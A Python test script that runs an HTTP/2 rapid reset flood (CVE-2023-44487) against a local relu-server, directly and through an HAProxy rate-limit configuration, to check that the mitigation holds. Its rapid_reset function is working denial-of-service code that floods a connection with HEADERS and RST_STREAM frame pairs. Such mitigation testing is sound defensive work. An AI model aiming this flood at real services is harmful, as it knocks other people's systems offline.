#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against relu-server, directly and
through the HAProxy configuration in deploy/haproxy/relu-grpc.cfg.

Each attack opens N streams on one connection, each a HEADERS frame for
ApplyReLU followed at once by RST_STREAM(CANCEL). Directly, every one of them
reaches relu-server's handler (counted as CANCELLED, no work, not as
INVALID_ARGUMENT); through the proxy, only as many as its per-address rate
limit lets through (at most twice --max-calls-per-s: the attack takes about a
second, the limit's window is one). Before and
after, a correct call is answered through the proxy and directly.

  proxy_rapid_reset.py --server build/server/relu-server [--streams N]
"""
import argparse
import os
import re
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request

import hpack
from hyperframe.frame import HeadersFrame, RstStreamFrame, SettingsFrame

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(
    os.path.abspath(__file__))))


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def rapid_reset(port, streams):
    """Sends `streams` HEADERS + RST_STREAM pairs on one connection."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
    block = hpack.Encoder().encode([
        (":method", "POST"), (":scheme", "http"),
        (":path", "/relu.v1.ReluService/ApplyReLU"), (":authority", "relu"),
        ("content-type", "application/grpc"), ("te", "trailers")])
    out = bytearray()
    try:
        for i in range(streams):
            stream = 1 + 2 * i
            headers = HeadersFrame(stream)
            headers.data = block
            headers.flags.add("END_HEADERS")
            reset = RstStreamFrame(stream)
            reset.error_code = 8  # CANCEL
            out += headers.serialize() + reset.serialize()
            if len(out) >= 1 << 16 or i + 1 == streams:
                sock.sendall(out)
                out.clear()
        # Let the peer read everything before the connection closes.
        sock.shutdown(socket.SHUT_WR)
        sock.settimeout(10)
        while sock.recv(1 << 16):
            pass
    except OSError:
        pass  # the peer closed the connection: the proxy's answer to abuse
    sock.close()


def handled_calls(metrics_port):
    """relu_requests_total for ApplyReLU, all codes, and the CANCELLED and
    INVALID_ARGUMENT ones."""
    text = urllib.request.urlopen(
        f"http://127.0.0.1:{metrics_port}/metrics", timeout=30).read().decode()
    counts = {}
    for code, value in re.findall(
            r'^relu_requests_total\{code="(\w+)",method="ApplyReLU"\} (\S+)$',
            text, re.M):
        counts[code] = int(float(value))
    return counts


def settle(metrics_port):
    """Waits until the server's count stops moving (it has taken every
    stream it will take), and returns it."""
    last = None
    for _ in range(100):
        counts = handled_calls(metrics_port)
        if counts == last:
            return counts
        last = counts
        time.sleep(0.5)
    return last


def call_ok(cli, port, timeout_s=30):
    result = subprocess.run(
        [cli, "apply", "--target", f"127.0.0.1:{port}", "--timeout",
         str(timeout_s), "--", "-5", "-2", "0", "3"], capture_output=True,
        text=True, timeout=120)
    return result.returncode == 0 and result.stdout.strip() == "[0.0, 0.0, 0.0, 3.0]"


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--server", required=True)
    parser.add_argument("--cli", required=True)
    parser.add_argument("--streams", type=int, default=20000)
    parser.add_argument("--max-calls-per-s", type=int, default=100,
                        help="the proxy's limit per client address")
    args = parser.parse_args()
    failures = []
    checks = [0]

    def check(condition, message):
        checks[0] += 1
        print(("ok   " if condition else "FAIL ") + message, flush=True)
        if not condition:
            failures.append(message)

    work = tempfile.mkdtemp(prefix="relu_proxy_")
    server_log = open(os.path.join(work, "server.log"), "w+")
    server = subprocess.Popen(
        [args.server, "--grpc-address=127.0.0.1:0",
         "--metrics-address=127.0.0.1:0", "--http-address=127.0.0.1:0"],
        stdout=server_log,
        stderr=subprocess.STDOUT)
    proxy = None
    try:
        grpc_port = metrics_port = None
        for _ in range(600):
            server_log.seek(0)
            log = server_log.read()
            m = re.search(r"metrics listening on \S+:(\d+)", log)
            g = re.search(r"gRPC listening on \S+:(\d+)", log)
            if m and g:
                metrics_port, grpc_port = int(m.group(1)), int(g.group(1))
                break
            if server.poll() is not None:
                break
            time.sleep(0.1)
        if grpc_port is None:
            print(log)
            print("0 passed, 1 failed")
            return 1
        proxy_port = free_port()
        env = dict(os.environ, RELU_PROXY_BIND=f"127.0.0.1:{proxy_port}",
                   RELU_GRPC_BACKEND=f"127.0.0.1:{grpc_port}",
                   RELU_PROXY_MAX_CALLS_PER_S=str(args.max_calls_per_s))
        proxy = subprocess.Popen(
            ["haproxy", "-db", "-f",
             os.path.join(ROOT, "deploy/haproxy/relu-grpc.cfg")],
            env=env, stdout=subprocess.DEVNULL, stderr=subprocess.STDOUT)
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", proxy_port), 1).close()
                break
            except OSError:
                time.sleep(0.1)
        check(call_ok(args.cli, proxy_port), "a call through the proxy is answered")

        before = settle(metrics_port)
        rapid_reset(grpc_port, args.streams)
        direct = settle(metrics_port)
        reached = sum(direct.values()) - sum(before.values())
        cancelled = direct.get("CANCELLED", 0) - before.get("CANCELLED", 0)
        print(f"     direct: {args.streams} reset streams, {reached} reached "
              f"the handler, {cancelled} counted CANCELLED", flush=True)
        check(cancelled == reached and reached > 0,
              "direct: reset streams are counted CANCELLED, never "
              "INVALID_ARGUMENT")
        check(call_ok(args.cli, grpc_port), "direct: a call is answered after")

        rapid_reset(proxy_port, args.streams)
        proxied = settle(metrics_port)
        through = sum(proxied.values()) - sum(direct.values())
        print(f"     through the proxy: {args.streams} reset streams, "
              f"{through} reached the handler", flush=True)
        # The proxy's window is a second; the attack lasts about one, so at
        # most twice the limit gets through.
        check(through <= 2 * args.max_calls_per_s,
              f"through the proxy: at most 2 x {args.max_calls_per_s} of the "
              f"reset streams reach relu-server")
        # The attacker's address (this one) is over the limit until its
        # one-second rate window has passed; then calls go through again. A
        # call made before that has its connection closed, and gRPC's
        # reconnects (counted too) would keep the address over the limit.
        time.sleep(3)
        answered = False
        for _ in range(5):
            answered = call_ok(args.cli, proxy_port, timeout_s=10)
            if answered:
                break
            time.sleep(3)
        check(answered, "through the proxy: calls are answered again once "
              "the attacker's rate window has passed")
        check(server.poll() is None, "relu-server still runs")
    finally:
        for process in (proxy, server):
            if process is not None and process.poll() is None:
                process.kill()
                process.wait()
    print(f"{checks[0] - len(failures)} passed, {len(failures)} failed")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
